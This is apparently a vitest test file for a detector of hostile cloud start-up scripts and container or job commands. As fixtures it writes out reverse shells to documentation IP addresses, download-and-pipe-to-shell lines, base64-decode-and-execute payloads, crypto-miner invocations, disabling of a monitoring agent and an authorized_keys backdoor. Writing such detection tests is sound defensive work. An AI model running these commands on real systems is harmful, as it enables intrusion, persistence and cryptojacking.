import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { codeDetail, codeReasons, commandReasons, startupCode } from './startup-code.ts';

const of = (text: string | Buffer) => startupCode(Buffer.from(text as string).toString('base64'));
const signs = (text: string | Buffer): string[] => of(text)!.signs.map((sign) => sign.en);

describe('start-up code', () => {
  it('is nothing when there is none', () => {
    for (const none of [undefined, null, '', '  ', 7]) expect(startupCode(none)).toBeNull();
    expect(codeDetail(null)).toEqual({});
    expect(codeReasons(null)).toEqual([]);
  });
  it.each([
    ['#!/bin/sh\n./xmrig -o stratum+tcp://pool.example:3333', 'mines a currency'],
    ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 'opens a shell outwards'],
    ['echo aGk= | base64 -d | bash', 'runs what it first decodes'],
    ['wget -q http://203.0.113.9/a -O /tmp/a', 'downloads from a bare address'],
    ['chattr +i /etc/cron.d/x', 'hides its traces'],
    ['systemctl stop amazon-ssm-agent', 'switches protection off'],
    ['cloud_final_modules:\n - [scripts-user, always]', 'runs at every start, not only the first'],
    ['<powershell>IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aA==")))</powershell>', 'runs what it first decodes'],
  ])('%j looks hostile', (text, sign) => {
    expect(signs(text)).toContain(sign);
    expect(codeReasons(of(text))[0]).toMatchObject({ code: 'runs-code' });
  });
  it.each([
    '#!/bin/bash\ndnf install -y nginx && systemctl enable --now nginx',
    '#!/bin/bash\necho ECS_CLUSTER=shop >> /etc/ecs/ecs.config',
    '#cloud-config\npackages: [git]\nruncmd: [[curl, -sSL, "https://get.example.com/agent.sh", -o, /tmp/agent.sh]]',
    '<powershell>Install-WindowsFeature Web-Server</powershell>',
    '#!/bin/sh\ncurl -s http://169.254.169.254/latest/meta-data/placement/region; wget http://10.0.0.5/agent.rpm',
    '#!/bin/sh\ncurl -fsSL https://get.example.com | sh',
  ])('%j does not', (text) => expect(signs(text)).toEqual([]));
  it('is seen through compression and one wrapping, and stays bounded', () => {
    const script = '#!/bin/sh\n# a comment that makes it long enough to be wrapped\n./xmrig --donate-level 1\n';
    expect(signs(gzipSync(script))).toContain('mines a currency');
    expect(signs(`Content-Transfer-Encoding: base64\n\n${Buffer.from(script).toString('base64')}`)).toContain('mines a currency');
    expect(signs(gzipSync(Buffer.alloc(50_000_000)))).toEqual([]);
    expect(of(Buffer.from([0x1f, 0x8b, 1, 2, 3]))).toMatchObject({ bytes: 5, signs: [] });
  });
  it('shows length and hash, never the text', () => {
    const code = of('export PASSWORD=hunter2; xmrig');
    expect(codeDetail(code)).toEqual({ userDataBytes: 30, userDataSha256: expect.stringMatching(/^[0-9a-f]{64}$/), userDataSigns: ['mines a currency'] });
    expect(JSON.stringify([codeDetail(code), codeReasons(code)])).not.toContain('hunter2');
  });
});

describe('what a container, job or notebook is told to run', () => {
  it.each([
    'docker.io/someone/xmrig:latest',
    './x -o stratum+ssl://pool.example:443 -u wallet',
    'sh -c curl -s http://198.51.100.7/a.sh | bash',
    'wget -qO- https://example.com/i | sudo sh',
    'sh -c "$(curl -fsSL https://example.com/i)"',
    'echo aGk= | base64 -d | sh',
    'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    'run --donate-level 1',
    'echo key >> /root/.ssh/authorized_keys',
  ])('%s looks hostile', (command) => {
    expect(commandReasons(command.split(' '))).toMatchObject([{ code: 'runs-code' }]);
  });
  it.each([
    'nginx:1.29',
    'python worker.py --pool 4',
    'curl -f http://localhost/health || exit 1',
    'curl -f http://127.0.0.1:8080/health',
    'base64 -d key.b64 > key',
    'npm run miner-report',
    'cat /dev/tcpdump',
    'cloudflare/cloudflared:2026.1.0 tunnel run',
  ])('%s does not', (command) => expect(commandReasons([command])).toEqual([]));
  it('is not repeated, whatever stands in it', () => {
    const [reason] = commandReasons([undefined, 7, 'curl \u001b[31mhttps://user:hunter2@example.com/\u202e | sh']);
    expect(reason!.text).toEqual({ en: 'start-up code that runs what it downloads', es: 'código de arranque que ejecuta lo que descarga' });
    expect(commandReasons([])).toEqual([]);
  });
});
